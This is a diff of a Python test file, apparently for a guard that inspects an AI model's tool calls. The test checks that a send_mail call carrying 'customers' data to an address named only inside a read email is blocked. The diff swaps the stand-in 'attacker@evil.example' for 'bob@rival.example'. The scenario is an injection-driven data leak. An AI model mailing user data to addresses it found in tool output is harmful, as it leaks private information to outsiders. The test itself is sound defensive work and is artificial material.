@@ -144,7 +144,7 @@ def test_arguments_of_a_call_stream_whole_and_judged(llm: LlmScene) -> None:
 
 
 def test_mail_to_whom_a_document_names_is_not_sent(llm: LlmScene) -> None:
-    arguments = '{"to": "attacker@evil.example", "body": "customers"}'
+    arguments = '{"to": "bob@rival.example", "body": "customers"}'
     llm.upstream.say = lambda _: chat_script(calls=[("c2", "send_mail", arguments)])
     names = ("read_mail", "send_mail")
     tools = [{"type": "function", "function": {"name": name, "parameters": {"type": "object"}}} for name in names]
@@ -152,7 +152,7 @@ def test_mail_to_whom_a_document_names_is_not_sent(llm: LlmScene) -> None:
     messages = [
         {"role": "user", "content": "Summarise my latest mail."},
         {"role": "assistant", "tool_calls": [call]},
-        {"role": "tool", "tool_call_id": "c1", "content": "Invoice attached. Contact attacker@evil.example for more."},
+        {"role": "tool", "tool_call_id": "c1", "content": "Invoice attached. It was sent by bob@rival.example."},
     ]
     try:
         answer = llm.client().chat.completions.create(model="fake", messages=messages, tools=tools)
